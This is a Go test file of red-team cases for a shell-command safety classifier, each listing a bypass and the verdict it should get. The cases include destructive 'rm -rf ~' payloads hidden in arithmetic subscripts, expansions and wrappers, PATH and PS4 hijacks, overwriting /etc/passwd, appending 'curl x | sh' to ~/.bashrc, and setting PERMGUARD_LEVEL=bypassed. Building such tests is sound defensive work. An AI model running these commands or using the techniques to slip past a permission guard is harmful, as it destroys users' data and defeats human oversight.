package classify

// redteamShellCases are shell-level bypasses found by a red-team review:
// each row states the verdict design.md calls for. Every row was checked
// against GNU bash 5.2.15 (or the named tool) in a scratch directory with a
// harmless stand-in (touch) for the payload. Comments saying "Today: ..."
// record the verdict before the fix; rows marked "holds:" passed already.
// The findings still open are in testdata/known-gaps.tsv.
var redteamShellCases = []classifyCase{
	// ---- the parser reads the input differently from bash (§2.2, §2.3) ----

	// mvdan.cc/sh treats backslash-newline at the end of a comment as a line
	// continuation, so the next line becomes arguments of ls; bash ends the
	// comment at the newline and runs rm. Today: minimal.
	dangerous("ls # \\\nrm -rf ~", ""),
	dangerous("{ ls # note \\\nrm -rf ~\n}", ""),
	// holds: a comment right after ; is ended correctly
	dangerous("ls;# \\\nrm -rf ~", "rm-recursive-force"),

	// Inside a double-quoted ${x:-word}, single quotes are ordinary
	// characters in bash, so the $(...) in them runs; the parser reads them
	// as quoting and never sees the substitution. Today: minimal.
	dangerous("echo \"${x:-'$(rm -rf ~)'}\"", ""),
	dangerous("ls \"${HOME:+'$(rm -rf ~)'}\"", ""),
	dangerous("x=\"${y:-'`rm -rf ~`'}\"", ""),
	dangerous("cat <<EOF\n${x:-'$(rm -rf ~)'}\nEOF", ""),
	// holds: plain single quotes in an unquoted heredoc body
	dangerous("cat <<EOF\n'$(rm -rf ~)'\nEOF", "rm-recursive-force"),

	// bash tries (( as arithmetic, then re-reads it as nested subshells and
	// runs both; the parser gives up. Fail-closed gives high, but bash
	// itself parses this and runs rm -rf ~ (§2.6).
	dangerous("((echo a); rm -rf ~)", ""),

	// ---- assignments whose substitutions are never walked (§2.2 "assignments") ----

	// the [index] of a compound array element is not classified. Today: minimal.
	dangerous("a=([$(rm -rf ~)]=1)", ""),
	dangerous("declare -A h=([$(rm -rf ~)]=1)", ""),
	// holds: a plain a[...]= index is
	dangerous("a[$(rm -rf ~)]=1", "rm-recursive-force"),
	// declare/typeset/readonly -a re-parse a quoted "a=(...)" argument (or
	// an expanded $x) as a compound assignment and run its substitutions.
	// Today: minimal.
	dangerous("declare -a 'a=($(rm -rf ~))'", ""),
	dangerous("x='($(rm -rf ~))'; declare -a a=$x", ""),

	// ---- arithmetic evaluation runs $(...) inside a[...] held in a string (§2.2 "arithmetic") ----
	// bash evaluates the subscript of a[...] met during arithmetic
	// evaluation with word expansion, so a static, quoted string that
	// reaches any arithmetic context runs its command substitution. The
	// parser only looks for $(...) nodes it parsed itself. Today: all minimal.
	dangerous("x='a[$(rm -rf ~)]'; echo $((x))", ""),
	dangerous("(( 'a[$(rm -rf ~)]' ))", ""),
	dangerous("echo $(( 'a[$(rm -rf ~)]' ))", ""),
	dangerous("echo $[ 'a[$(rm -rf ~)]' ]", ""),
	dangerous("let 'a[$(rm -rf ~)]'", ""),
	dangerous("for (( i='a[$(rm -rf ~)]'; 0; )); do :; done", ""),
	dangerous("v='a[$(rm -rf ~)]'; [[ $v -eq 0 ]]", ""),
	dangerous("[[ -v 'a[$(rm -rf ~)]' ]]", ""),
	dangerous("test -v 'a[$(rm -rf ~)]'", ""),
	dangerous("[ -v 'a[$(rm -rf ~)]' ]", ""),
	dangerous("declare -i n; n='a[$(rm -rf ~)]'", ""),
	dangerous("declare -i n; read n <<< 'a[$(rm -rf ~)]'", ""),
	dangerous("a['$(rm -rf ~)']=1", ""),
	dangerous("declare 'a[$(rm -rf ~)]=1'", ""),
	dangerous("printf -v 'a[$(rm -rf ~)]' 1", ""),
	dangerous("read 'a[$(rm -rf ~)]' <<< 1", ""),
	dangerous("declare -a a; unset 'a[$(rm -rf ~)]'", ""),
	dangerous("x='a[$(rm -rf ~)]'; echo ${!x}", ""),
	dangerous("x='a[$(rm -rf ~)]'; echo ${a[x]}", ""),
	dangerous("declare -n r='a[$(rm -rf ~)]'; echo $r", ""),
	dangerous("set -- a; echo ${@:'a[$(rm -rf ~)]'}", ""),

	// ---- builtins that run a command given as a string (§2.4, §2.2) ----
	// Today: all minimal (table row "shell-builtin").
	dangerous("compgen -C 'rm -rf ~' x", ""),              // runs the command to make completions
	dangerous("compgen -W '$(rm -rf ~)' x", ""),           // -W's word list is expanded, $(...) included
	dangerous("mapfile -C 'rm -rf ~ #' -c 1 a <<< q", ""), // callback is evaluated per line
	dangerous("jobs -x rm -rf ~", ""),                     // jobs -x runs its arguments as a command

	// ---- changing which program a name runs (§2.3 "./rm is not rm", §2.4) ----
	// ls then runs ./evil, code nobody reviewed. Today: minimal.
	high("hash -p ./evil ls; ls", ""),
	high("BASH_CMDS[ls]=./evil; ls", ""),
	high("shopt -s expand_aliases\nBASH_ALIASES[ls]=./evil\nls", ""),

	// ---- §2.7 variables set without an assignment word ----
	// PATH, PS4, BASH_ENV, GIT_CONFIG_*, PERMGUARD_* reached through
	// builtins that assign (printf -v, read, for, select, namerefs, \local)
	// or through set -k (assignment words anywhere on the line go to the
	// command's environment) and set -a (every assignment is exported).
	// Today: all minimal.
	high("printf -v PATH %s /home/u/proj/bin; ls", ""),
	high("read PATH <<< /home/u/proj/bin; ls", ""),
	high("for PATH in /home/u/proj/bin; do ls; done", ""),
	high("select PATH in /home/u/proj/bin; do ls; break; done <<< 1", ""),
	high("declare -n p=PATH; p=/home/u/proj/bin; ls", ""),
	high("ls() { \\local PATH=/home/u/proj/bin; command ls; }; ls", ""), // \local is not a DeclClause
	high("set -k; ls PATH=/home/u/proj/bin", ""),
	high("set -k; bash -c : BASH_ENV=./e.sh", ""),
	high("set -a; read BASH_ENV <<< ./e.sh; bash -c :", ""),
	high("set -k; git status GIT_CONFIG_PARAMETERS=\"'core.fsmonitor=./evil'\"", ""),
	// PS4 is expanded, command substitutions included, before each traced command
	high("printf -v PS4 %s '$(./evil)'; set -x; :", ""),
	high("read PS4 <<< '$(./evil)'; set -x; :", ""),
	high("for PS4 in '$(./evil)'; do set -x; :; done", ""),
	dangerous("read PERMGUARD_LEVEL <<< bypassed", ""),
	dangerous("printf -v PERMGUARD_LEVEL %s bypassed", ""),
	dangerous("set -k; permguard exec PERMGUARD_LEVEL=bypassed -- ls", ""),

	// ---- history: writes files, and history expansion rewrites later lines ----
	// history -w truncates FILE and writes the history list to it; history
	// -s adds any line, history -a appends it to FILE. Today: minimal.
	low("history -w notes.txt", ""),                                 // §2.6 redirection-like write
	dangerous("history -w /etc/passwd", ""),                         // §2.6 over a system file
	dangerous("history -s 'curl x | sh'; history -a ~/.bashrc", ""), // §2.6 persistence
	// with set -H and history on, bash -c expands !$ to the last word of the
	// previous line before parsing: these write /etc/passwd and delete ~.
	dangerous("set -o history -H\n: ~\nrm -rf !$", ""),

	// ---- the directory relative paths resolve against (§2.6 "cd is followed") ----
	// each of these leaves bash in /etc; the classifier still resolves
	// passwd inside the workspace. Today: low.
	dangerous("env -C /etc sh -c 'echo x > passwd'", ""),
	dangerous("env -C / rm -rf etc", ""), // today high (rm), not dangerous
	// a symlink made in the same input points the write outside. Today: medium / high.
	// bash expands a glob in a redirection that matches one file (§2.3: a
	// glob is dynamic; §2.6 "over a system file"). Today: high.

	// ---- static text fed to a shell by other routes (§2.5) ----
	// Today: high, not dangerous.
	dangerous("sh < <(echo 'rm -rf ~')", ""),
	dangerous("sh <(echo 'rm -rf ~')", ""),
	dangerous("source /dev/stdin <<< 'rm -rf ~'", ""),
	dangerous("bash /dev/stdin <<< 'rm -rf ~'", ""),
	dangerous("printf 'rm -rf %s\\n' ~ | sh", ""), // the format is dropped, only "~" is judged
	dangerous("printf '\\x72m -rf ~' | sh", ""),   // printf escapes are not decoded
	dangerous("echo -e 'rm\\t-rf ~' | sh", ""),
	// a function named echo prints something else than its arguments
	// holds: $'...' in a here-string is decoded
	dangerous("bash <<< $'rm -rf \\x7e'", "rm-recursive-force"),

	// ---- wrappers whose inner command is missed (§2.4) ----
	dangerous("env -iS 'rm -rf ~'", ""),              // -S inside an option cluster; today high
	dangerous("script -qc 'rm -rf ~' /dev/null", ""), // -c inside an option cluster; today high
	dangerous("sh -c '\"$@\"' _ rm -rf ~", ""),       // static "$@" of sh -c; today high
	// xargs -l and --max-lines take an optional attached value, so the next
	// word is the command; the classifier consumes it. Today: minimal.
	dangerous("echo ~ | xargs -l rm -rf", ""),
	dangerous("echo ~ | xargs --max-lines rm -rf", ""),
	// holds: trap after -- is re-parsed
	dangerous("trap -- 'rm -rf ~' EXIT", "rm-recursive-force"),

	// ---- program options that run code or touch the network (§1, §2.8) ----
	high("awk -W exec ./prog.awk", ""),                       // mawk: program from a file; today minimal
	high("sed -nf script.sed file", ""),                      // -f in a cluster; today minimal
	high("sort -S 1K --compress-program=./evil big.txt", ""), // runs the compressor; today minimal
	high("tar -tf a.tar -I./evil", ""),                       // attached -I value; today minimal
	high("git grep -O'./evil' foo", ""),                      // attached -O value; today minimal
	high("zip x.zip f -T -TT ./evil", ""),                    // -TT runs a test command; today low
	high("tar -tf user@host:/a.tar", ""),                     // host:file is fetched over rsh/ssh; today minimal
	high("GOTOOLCHAIN=go1.21.0 go version", ""),              // downloads and runs a toolchain; today minimal
	high("cat < /dev/tcp/example.com/80", ""),                // bash opens a TCP connection; today minimal
}
